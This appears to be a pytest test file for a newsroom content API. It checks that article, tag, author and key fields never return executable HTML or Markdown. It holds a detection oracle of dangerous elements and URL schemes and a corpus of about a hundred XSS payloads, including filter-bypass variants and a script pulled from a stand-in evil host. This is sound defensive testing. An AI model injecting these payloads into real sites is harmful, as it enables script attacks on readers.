"""An XSS corpus through every text field of every resource: nothing executable comes out.

Each payload is either refused (a 422 naming the field) or accepted; when accepted, every read
of it is inspected:

* `body_html`, and an HTML `body`, are parsed as a browser would read them: no script-capable
  element, no `on*` attribute, no dangerous CSS, and no URL whose scheme (once entities are
  decoded and whitespace and controls dropped, as browsers do) is javascript:, vbscript: or data:;
* a Markdown `body` is the source consumers render themselves: rendered by a CommonMark renderer
  with raw HTML on and no sanitizer, it must pass the same inspection;
* every other string (titles, names, captions, excerpts, derived or not) is plain text: it holds
  no tag, comment or declaration at all.

Legitimate HTML, Markdown and typography must come through intact.
"""

from __future__ import annotations

import html
import re
from dataclasses import dataclass
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from tests.conftest import assert_problem

# ---------------------------------------------------------------------------------------------
# The oracle

SCRIPTABLE_ELEMENTS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "svg", "math",
    "link", "meta", "base", "form", "input", "button", "textarea", "select", "template",
    "noscript", "xmp", "plaintext", "isindex", "portal", "video", "audio", "source", "marquee",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "xlink:href", "poster", "background", "data",
    "codebase", "cite", "longdesc", "dynsrc", "lowsrc", "ping", "manifest", "icon", "srcdoc",
}  # fmt: skip
DANGEROUS_SCHEMES = {"javascript", "vbscript", "data"}
_DANGEROUS_CSS = re.compile(
    r"expression\s*\(|javascript:|vbscript:|behavior\s*:|-moz-binding", re.I
)
_URL_NOISE = re.compile(r"[\x00-\x20\x7f]+")  # browsers drop tabs and newlines, trim the rest
_SCHEME = re.compile(r"^([a-z][a-z0-9+.\-]*):", re.I)
# A backstop that needs no parser: in serialized HTML a raw `<` followed by a name is a tag
_RAW_SCRIPTABLE_TAG = re.compile(
    r"<\s*(" + "|".join(sorted(SCRIPTABLE_ELEMENTS)) + r")[\s/>]", re.IGNORECASE
)


def dangerous_scheme(url: str) -> str | None:
    """The scheme a browser would see in this (parsed, so entity-decoded) attribute value, if
    it is one that runs code; decoded once more, to be stricter than any browser."""
    squeezed = _URL_NOISE.sub("", html.unescape(url))
    match = _SCHEME.match(squeezed)
    scheme = match.group(1).lower() if match else None
    return scheme if scheme in DANGEROUS_SCHEMES else None


class _Inspector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in SCRIPTABLE_ELEMENTS:
            self.problems.append(f"<{tag}> element")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"{name}= on <{tag}>")
            if name == "style" and value and _DANGEROUS_CSS.search(value):
                self.problems.append(f"style={value!r} on <{tag}>")
            if value is None:
                continue
            if name in URL_ATTRIBUTES:
                urls = [value]
            elif name in ("srcset", "imagesrcset"):  # "url 1x, url 2x"
                urls = [candidate.strip().split(" ")[0] for candidate in value.split(",")]
            else:
                urls = []
            for url in urls:
                if scheme := dangerous_scheme(url):
                    self.problems.append(f"{name}={value!r} ({scheme}:) on <{tag}>")
            if tag == "meta" and name == "content" and "url=" in value.lower():
                self.problems.append(f"meta refresh {value!r}")


class _MarkupFinder(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.found.append(f"<{tag}>")

    def handle_endtag(self, tag):
        self.found.append(f"</{tag}>")

    def handle_comment(self, data):
        self.found.append("<!--comment-->")

    def handle_decl(self, decl):
        self.found.append(f"<!{decl}>")

    def unknown_decl(self, data):
        self.found.append(f"<![{data}]>")

    def handle_pi(self, data):
        self.found.append(f"<?{data}>")


def executable_parts(markup: str) -> list[str]:
    """What in this HTML could run in a reader's browser."""
    inspector = _Inspector()
    inspector.feed(markup)
    inspector.close()
    raw = [f"raw {m.group(0)!r}" for m in _RAW_SCRIPTABLE_TAG.finditer(markup)]
    return inspector.problems + raw


def markup_in(text: str) -> list[str]:
    """Tags, comments or declarations in what should be plain text."""
    finder = _MarkupFinder()
    finder.feed(text)
    finder.close()
    return finder.found


# How a consumer may render a Markdown source: CommonMark, raw HTML on, nothing sanitized
_consumer_markdown = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
# Strings that are neither text nor HTML: identifiers, times, enumerations, links we make
_NOT_TEXT = {
    "id", "slug", "status", "language", "body_format", "role", "prefix", "key", "key_id",
    "author_id", "created_at", "updated_at", "published_at", "last_used_at", "revoked_at",
    "expires_at", "action", "token",
}  # fmt: skip
URL_FIELDS = {"url", "canonical_url", "avatar_url", "website", *(
    "x", "bluesky", "mastodon", "linkedin", "facebook", "instagram", "threads", "youtube", "github"
)}  # fmt: skip


def problems_in(payload, where: str = "") -> list[str]:
    """Everything executable or marked-up in a JSON response body, with where it is."""
    found: list[str] = []
    if isinstance(payload, list):
        for index, item in enumerate(payload):
            found += problems_in(item, f"{where}[{index}]")
        return found
    if not isinstance(payload, dict):
        return found
    for key, value in payload.items():
        path = f"{where}.{key}" if where else key
        if isinstance(value, dict | list):
            if key == "links":  # pagination links, ours
                continue
            found += problems_in(value, path)
        elif not isinstance(value, str) or key in _NOT_TEXT:
            continue
        elif key == "body_html" or (key == "body" and payload.get("body_format") == "html"):
            found += [f"{path}: {p}" for p in executable_parts(value)]
        elif key == "body":
            rendered = _consumer_markdown.render(value)
            found += [f"{path} (rendered raw): {p}" for p in executable_parts(rendered)]
        elif key in URL_FIELDS:
            if scheme := dangerous_scheme(value):
                found.append(f"{path}: {scheme}: URL {value!r}")
            if re.search(r"[\s\"'<>`]", value):
                found.append(f"{path}: URL with raw {value!r}")
        else:
            found += [f"{path}: markup {m}" for m in markup_in(value)]
    return found


def test_the_oracle_sees_what_it_must():
    """The inspection itself, on known-bad and known-good HTML and text."""
    bad = [
        "<script>alert(1)</script>",
        "<IMG SRC=x OnError=alert(1)>",
        "<svg/onload=alert(1)>",
        '<a href="&#106;avascript:alert(1)">x</a>',
        '<a href="java&#x09;script:alert(1)">x</a>',
        '<a href=" JAVASCRIPT:alert(1)">x</a>',
        '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
        '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
        '<a href="vbscript:msgbox(1)">x</a>',
        '<p style="width: expression(alert(1))">x</p>',
        '<form action="javascript:alert(1)"></form>',
        '<img srcset="https://a.fr/x.png 1x, javascript:alert(1) 2x">',
        "<math><mi>x</mi></math>",
        "<iframe src=https://a.fr></iframe>",
    ]
    for markup in bad:
        assert executable_parts(markup), markup
    good = [
        '<p>x &lt; y, <a href="https://a.fr/?q=javascript:x" rel="nofollow">lien</a></p>',
        '<p><img src="https://a.fr/x.png" alt="javascript: le langage"></p>',
        "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>",
        '<a href="mailto:redaction@example.org">écrire</a>',
        '<a href="/relatif">relatif</a>',
    ]
    for markup in good:
        assert not executable_parts(markup), markup
    assert markup_in("<b>gras</b>") and markup_in("a<!-- x -->b") and markup_in("x<y>z")
    assert not markup_in("x < y, « citation », l’été, 3 <= 4, <3, a -> b, AT&T")


# ---------------------------------------------------------------------------------------------
# The corpus

XSS = {
    "script": "<script>alert(1)</script>",
    "script-mixed-case": "<ScRiPt>alert(1)</sCrIpT>",
    "script-src": '<script src="https://evil.example/x.js"></script>',
    "script-unclosed": "<script>alert(1)",
    "script-half-open": "<script",
    "script-split-by-nul": "<scr\x00ipt>alert(1)</script>",
    "script-in-attribute-breakout": '"><script>alert(1)</script>',
    "script-after-title-breakout": "</title><script>alert(1)</script>",
    "script-after-textarea-breakout": "</textarea><script>alert(1)</script>",
    "script-nested-trick": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "img-onerror": "<img src=x onerror=alert(1)>",
    "img-onerror-quoted": '<img src="x" onerror="alert(1)">',
    "img-onerror-mixed-case": "<IMG SRC=x OnErRoR=alert(1)>",
    "img-onerror-slash-separated": "<img/src=x/onerror=alert(1)>",
    "img-onerror-newline": "<img src=x\nonerror=alert(1)>",
    "img-onerror-formfeed": "<img src=x\x0conerror=alert(1)>",
    "img-onerror-unclosed": "<img src=x onerror=alert(1)",
    "img-onerror-single-quote-breakout": "'><img src=x onerror=alert(1)>",
    "img-onerror-entity-encoded-handler": "<img src=x onerror=&#97;lert(1)>",
    "svg-onload": "<svg onload=alert(1)>",
    "svg-onload-slash": "<svg/onload=alert(1)>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-animate-href": (
        "<svg><a><animate attributeName=href values=javascript:alert(1) />"
        "<text x=20 y=20>x</text></a></svg>"
    ),
    "svg-cdata": "<svg><![CDATA[><script>alert(1)</script>]]></svg>",
    "math-href": '<math href="javascript:alert(1)">x</math>',
    "math-mglyph-style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "iframe-javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object-data": '<object data="javascript:alert(1)"></object>',
    "embed-data": '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "a-javascript": '<a href="javascript:alert(1)">x</a>',
    "a-javascript-mixed-case": '<a href="JaVaScRiPt:alert(1)">x</a>',
    "a-javascript-decimal-entity": '<a href="&#106;avascript:alert(1)">x</a>',
    "a-javascript-entities-without-semicolons": (
        '<a href="&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)">x</a>'
    ),
    "a-javascript-hex-tab": '<a href="java&#x09;script:alert(1)">x</a>',
    "a-javascript-named-colon": '<a href="javascript&colon;alert(1)">x</a>',
    "a-javascript-leading-space": '<a href=" javascript:alert(1)">x</a>',
    "a-javascript-newline": '<a href="java\nscript:alert(1)">x</a>',
    "a-javascript-unquoted": "<a href=javascript:alert(1)>x</a>",
    "a-vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "a-data-html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "a-onmouseover-unquoted": "<a href=https://example.org onmouseover=alert(1)>x</a>",
    "img-data-svg": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "img-srcset-javascript": '<img src="https://e.org/x.png" srcset="javascript:alert(1) 2x">',
    "form-action": '<form action="javascript:alert(1)"><button>x</button></form>',
    "button-formaction": '<button formaction="javascript:alert(1)">x</button>',
    "input-autofocus": "<input autofocus onfocus=alert(1)>",
    "details-ontoggle": "<details open ontoggle=alert(1)>",
    "body-onload": "<body onload=alert(1)>",
    "video-source-onerror": "<video><source onerror=alert(1)></video>",
    "marquee-onstart": "<marquee onstart=alert(1)>x</marquee>",
    "style-element": '<style>@import "javascript:alert(1)";</style>',
    "style-expression": '<p style="width: expression(alert(1))">x</p>',
    "style-url-javascript": '<div style="background:url(javascript:alert(1))">x</div>',
    "link-stylesheet": '<link rel="stylesheet" href="javascript:alert(1)">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "base-href": '<base href="javascript:alert(1)//">',
    "template-script": "<template><script>alert(1)</script></template>",
    "noscript-breakout": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "comment-hiding-script": "<!--<script>alert(1)</script>-->",
    "comment-abrupt": "<!--><script>alert(1)</script>-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "processing-instruction": '<?xml-stylesheet href="javascript:alert(1)"?>',
    "entity-encoded-script": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "entity-encoded-img": "&lt;img src=x onerror=alert(1)&gt;",
    "double-encoded-script": "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "decimal-encoded-script": "&#60;script&#62;alert(1)&#60;/script&#62;",
    "markdown-link-javascript": "[x](javascript:alert(1))",
    "markdown-link-javascript-mixed-case": "[x](JaVaScRiPt:alert(1))",
    "markdown-link-javascript-entity": "[x](&#106;avascript:alert(1))",
    "markdown-link-javascript-tab-entity": "[x](java&#x09;script:alert(1))",
    "markdown-link-javascript-named-colon": "[x](javascript&colon;alert(1))",
    "markdown-link-javascript-angle": "[x](<javascript:alert(1)>)",
    "markdown-link-javascript-spaces": "[x]( javascript:alert(1) )",
    "markdown-link-vbscript": "[x](vbscript:msgbox(1))",
    "markdown-link-data": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "markdown-link-title-breakout": '[x](https://example.org "a\\" onmouseover=\\"alert(1)")',
    "markdown-image-javascript": "![x](javascript:alert(1))",
    "markdown-image-data-svg": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "markdown-image-data-png": "![x](data:image/png;base64,iVBORw0KGgo=)",
    "markdown-image-alt-breakout": '![x" onerror="alert(1)](https://example.org/x.png)',
    "markdown-reference-link": "[x][evil]\n\n[evil]: javascript:alert(1)",
    "markdown-reference-link-indented": "[x][evil]\n\n   [evil]: JAVASCRIPT:alert(1)",
    "markdown-reference-link-angle": "[x][evil]\n\n[evil]: <javascript:alert(1)>",
    "markdown-reference-link-next-line": "[x][evil]\n\n[evil]:\n  javascript:alert(1)",
    "markdown-reference-image": "![x][evil]\n\n[evil]: data:image/svg+xml;base64,PHN2Zz4=",
    "markdown-autolink-javascript": "<javascript:alert(1)>",
    "markdown-autolink-mixed-case": "<JaVaScRiPt:alert(1)>",
    "markdown-autolink-vbscript": "<vbscript:msgbox(1)>",
    "markdown-autolink-data": "<data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "markdown-html-block": "<div>\n<script>alert(1)</script>\n</div>",
    "markdown-html-block-handler": '<div\nonmouseover="alert(1)">x</div>',
    # An HTML block (a line opening with a block tag) passes through raw until a blank line
    "markdown-html-block-slash-handler": '<div>\n<img/src="x"/onerror=alert(1)>\n</div>',
    "markdown-html-block-quote-handler": '<div>\n<img src="x"onerror=alert(1)>\n</div>',
    "markdown-html-block-style": '<div>\n<p style="x:expression(alert(1))">x</p>\n</div>',
    "markdown-html-block-css-url": (
        "<div>\n<p style=\"background:url( 'javascript:alert(1)')\">x</p>\n</div>"
    ),
    "markdown-html-block-entity-href": '<div>\n<a href="jav&#x09;ascript:alert(1)">x</a>\n</div>',
    "markdown-html-block-spaced-href": "<div>\n<a href= javascript:alert(1)>x</a>\n</div>",
    "markdown-escaped-tag": "\\<img src=x onerror=alert(1)>",
    "markdown-link-text-html": "[<img src=x onerror=alert(1)>](https://example.org)",
}

LEGIT_TEXT = {
    "comparisons": "x < y et y > z, 3 <= 4, a <- b -> c, <3",
    "french-typography": "« Bonjour » — l’été ’24… C’est « déjà » l’heure\u202f!",
    "ampersands": "Tom & Jerry, AT&T, R&D, a && b",
    "symbols": "5 €, 10 %, 3 × 4 ÷ 2 ≠ 7, ½, °C, ©",
    "scripts-and-emoji": "Emoji 🎉, 漢字, العربية, ελληνικά",
    "quotes": 'L\'apostrophe droite, "guillemets droits", ‘simples’ et “doubles”',
    "spaces": "insécable\u00a0et fine\u202fet tab\tfin",
    "the-word-javascript": "JavaScript: le langage, et javascript:void(0) en texte",
}


# ---------------------------------------------------------------------------------------------
# Where the corpus goes: each text field of each resource


_ARTICLE = (("title", "Titre"),)  # what an article needs besides the field under test
_IMAGE = "https://example.org/x.png"  # what a feature image needs besides its text


@dataclass(frozen=True)
class Target:
    resource: str  # articles, tags, authors, keys
    field: str  # the problem names it: title, feature_image.alt, …
    base: tuple = ()  # other fields the create needs
    html_body: bool = False
    paragraph: bool = False  # the payload sent inside <p>…</p>
    patch: bool = False  # sent by PATCH to an existing article rather than by POST

    @property
    def id(self) -> str:
        suffix = "[html]" if self.html_body else ""
        suffix += "[in-a-paragraph]" if self.paragraph else ""
        return f"{self.resource}.{self.field}{suffix}{' (patch)' if self.patch else ''}"

    def body(self, payload: str) -> dict:
        if self.paragraph:
            payload = f"<p>Avant {payload} après.</p>"
        body: dict = dict(self.base)
        *parents, name = self.field.split(".")
        node = body
        for parent in parents:  # a feature image needs its URL
            node = node.setdefault(parent, {"url": _IMAGE} if parent == "feature_image" else {})
        node[name] = payload
        if self.html_body:
            body["body_format"] = "html"
        return body


TARGETS = [
    *(
        Target("articles", name, () if name == "title" else _ARTICLE)
        for name in (
            "title",
            "subtitle",
            "excerpt",
            "body",
            "feature_image.alt",
            "feature_image.caption",
            "feature_image.credit",
            "seo.meta_title",
            "seo.meta_description",
        )
    ),
    Target("articles", "body", _ARTICLE, html_body=True),
    Target("articles", "body", _ARTICLE, html_body=True, paragraph=True),
    Target("articles", "body", patch=True),
    Target("articles", "title", patch=True),
    Target("tags", "name"),
    Target("tags", "description", (("name", "Tag"),)),
    Target("authors", "name"),
    Target("authors", "bio", (("name", "Auteur"),)),
    Target("keys", "name", (("role", "partner"),)),
]


@pytest.fixture
def newsroom(app, client, editor, admin, session):
    """Sends a target's payload and reads back every representation of what it wrote."""

    class Newsroom:
        def headers(self, resource: str) -> dict:
            return admin if resource == "keys" else editor

        def write(self, target: Target, payload: str):
            headers = self.headers(target.resource)
            body = target.body(payload)
            if not target.patch:
                with app.app_context():
                    return client.post(f"/v1/{target.resource}", json=body, headers=headers)
            article = client.post("/v1/articles", json={"title": "Base"}, headers=headers)
            url = f"/v1/articles/{article.get_json()['data']['id']}"
            headers = {**headers, "If-Match": client.get(url, headers=headers).headers["ETag"]}
            with app.app_context():
                return client.patch(url, json=body, headers=headers)

        def reads(self, resource: str, data: dict) -> dict[str, dict]:
            """Every read of one written resource: by id, by slug, its history."""
            headers = self.headers(resource)
            urls = [f"/v1/{resource}/{data['id']}"]
            if "slug" in data:
                urls.append(f"/v1/{resource}/slug/{data['slug']}")
            if resource == "articles":
                urls.append(f"/v1/articles/{data['id']}/revisions")
                preview = client.post(f"/v1/articles/{data['id']}/preview", headers=headers)
                urls.append(preview.get_json()["data"]["url"])
            return {url: self.read(url, headers) for url in urls}

        def listing(self, resource: str) -> dict:
            query = "?status=draft,scheduled,published,archived" if resource == "articles" else ""
            sep = "&" if query else "?"
            return self.read(f"/v1/{resource}{query}{sep}per_page=100", self.headers(resource))

        def read(self, url: str, headers: dict) -> dict:
            response = client.get(url, headers=headers)
            assert response.status_code == 200, (url, response.get_data(as_text=True))
            return response.get_json()

    return Newsroom()


@pytest.mark.parametrize("target", TARGETS, ids=lambda t: t.id)
def test_nothing_executable_comes_out_of_any_field(newsroom, subtests, target):
    accepted = 0
    for case, payload in XSS.items():
        with subtests.test(case=case, payload=payload):
            response = newsroom.write(target, payload)
            if response.status_code == 422:
                assert_problem(response, 422, target.field)
                continue
            assert response.status_code in (200, 201), response.get_data(as_text=True)
            accepted += 1
            data = response.get_json()["data"]
            reads = {"the write's answer": response.get_json()}
            reads |= newsroom.reads(target.resource, data)
            problems = [f"{url}: {p}" for url, body in reads.items() for p in problems_in(body)]
            assert not problems, "\n".join(problems)
    with subtests.test(case="the list of everything accepted", accepted=accepted):
        listing = newsroom.listing(target.resource)
        assert not problems_in(listing), "\n".join(problems_in(listing))


# ---------------------------------------------------------------------------------------------
# What is legitimate comes through


@pytest.mark.parametrize("text", LEGIT_TEXT.values(), ids=LEGIT_TEXT.keys())
@pytest.mark.parametrize(
    "target",
    [t for t in TARGETS if t.field != "body" and not t.patch],
    ids=lambda t: t.id,
)
def test_typography_in_a_text_field_comes_back_byte_for_byte(newsroom, target, text):
    response = newsroom.write(target, text)
    assert response.status_code == 201, response.get_data(as_text=True)
    data = response.get_json()["data"]
    for url, body in newsroom.reads(target.resource, data).items():
        if url.endswith("/revisions"):
            assert not problems_in(body)
            continue
        node = body["data"]
        for part in target.field.split("."):
            node = node[part]
        assert node == text


LEGIT_MARKDOWN = """\
Un paragraphe avec [le rapport](https://example.org/rapport?a=1&b=2 "Le rapport"), *l’emphase*,
**le gras**, `x < y` en code, x < y en texte, « guillemets », l’apostrophe et AT&T.

## Un intertitre

> Une citation.

- un
- deux

![Une image](https://example.org/image.png "Légende")

<abbr title="Intelligence artificielle">IA</abbr> et <sup>2</sup>, ~~barré~~.

Écrire à <redaction@example.org> ou voir <https://example.org/page>.

| a | b |
|---|---|
| 1 | 2 |
"""
MARKDOWN_SURVIVORS = [
    '<a href="https://example.org/rapport?a=1&amp;b=2" title="Le rapport" '
    'rel="noopener noreferrer nofollow">le rapport</a>',
    "<em>l’emphase</em>",
    "<strong>le gras</strong>",
    "<code>x &lt; y</code>",
    "x &lt; y en texte",
    "« guillemets », l’apostrophe et AT&amp;T",
    "<h2>Un intertitre</h2>",
    "<blockquote>\n<p>Une citation.</p>\n</blockquote>",
    "<li>un</li>",
    '<img src="https://example.org/image.png" alt="Une image" title="Légende">',
    '<abbr title="Intelligence artificielle">IA</abbr>',
    "<sup>2</sup>",
    "<s>barré</s>",
    '<a href="mailto:redaction@example.org" rel="noopener noreferrer nofollow">'
    "redaction@example.org</a>",
    '<a href="https://example.org/page" rel="noopener noreferrer nofollow">'
    "https://example.org/page</a>",
    "<td>1</td>",
]

LEGIT_HTML = (
    '<p>Un <a href="https://example.org/">lien</a>, <em>emphase</em>, <strong>gras</strong>, '
    "x &lt; y, « guillemets » et l’apostrophe.</p>\n<h2>Intertitre</h2>\n"
    '<figure><img src="https://example.org/i.png" alt="Image"><figcaption>Légende</figcaption>'
    "</figure>\n<blockquote><p>Citation</p></blockquote>"
)
HTML_SURVIVORS = [
    '<a href="https://example.org/" rel="noopener noreferrer nofollow">lien</a>',
    "<em>emphase</em>",
    "<strong>gras</strong>",
    "x &lt; y, « guillemets » et l’apostrophe.",
    "<h2>Intertitre</h2>",
    '<img src="https://example.org/i.png" alt="Image">',
    "<figcaption>Légende</figcaption>",
    "<blockquote><p>Citation</p></blockquote>",
]


@pytest.mark.parametrize(
    ("body_format", "source", "survivors"),
    [("markdown", LEGIT_MARKDOWN, MARKDOWN_SURVIVORS), ("html", LEGIT_HTML, HTML_SURVIVORS)],
)
def test_legitimate_markup_survives(newsroom, body_format, source, survivors):
    target = Target("articles", "body", _ARTICLE, html_body=body_format == "html")
    response = newsroom.write(target, source)
    assert response.status_code == 201, response.get_data(as_text=True)
    data = response.get_json()["data"]
    for body in [response.get_json(), *newsroom.reads("articles", data).values()]:
        assert not problems_in(body)
    body_html = data["body_html"]
    for fragment in survivors:
        assert fragment in body_html, f"{fragment!r} not in {body_html!r}"
    if body_format == "markdown":
        assert data["body"] == source  # the source comes back as written
        assert data["excerpt"].startswith("Un paragraphe avec le rapport, l’emphase")
        assert "x < y en texte" in data["excerpt"]
